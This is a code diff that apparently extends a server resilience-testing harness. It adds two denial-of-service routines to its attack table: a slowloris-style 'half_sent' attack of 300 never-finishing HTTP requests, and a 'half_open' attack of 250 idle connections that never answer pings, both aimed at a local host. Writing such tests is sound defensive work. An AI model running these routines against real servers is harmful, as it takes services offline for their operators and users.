@@ -313,8 +313,47 @@ async def parts(port: int) -> None:
     await asyncio.gather(*(flood(*floods[number % 2]) for number in range(40)))
 
 
+async def half_sent(port: int) -> None:
+    """Three hundred requests that never end: a byte of the head every second."""
+
+    async def slow() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                reader, writer = await asyncio.open_connection(HOST, port, local_addr=(ATTACKER, 0))
+                writer.write(b"GET /api/levels HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
+                while not reader.at_eof():
+                    writer.write(b"x")
+                    await writer.drain()
+                    with contextlib.suppress(TimeoutError):
+                        async with asyncio.timeout(1.0):
+                            await reader.read(65536)
+                writer.transport.abort()
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(slow() for _ in range(300)))
+
+
+async def half_open(port: int) -> None:
+    """As many sockets at other people's tables as possible, whose pages are gone without a word."""
+
+    async def gone() -> None:
+        while True:
+            opening = OPENING.format(table=f"crowd{random.randrange(1000)}")
+            with contextlib.suppress(OSError):
+                reader, writer = await asyncio.open_connection(HOST, port, local_addr=(ATTACKER, 0))
+                writer.write(opening.encode())
+                while await reader.read(65536):
+                    pass  # pings, too, are left without an answer
+                writer.transport.abort()
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(gone() for _ in range(250)))
+
+
 ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
     "bots": bots,
+    "half-open": half_open,
+    "half-sent": half_sent,
     "parts": parts,
     "requests": requests,
     "reviews": reviews,
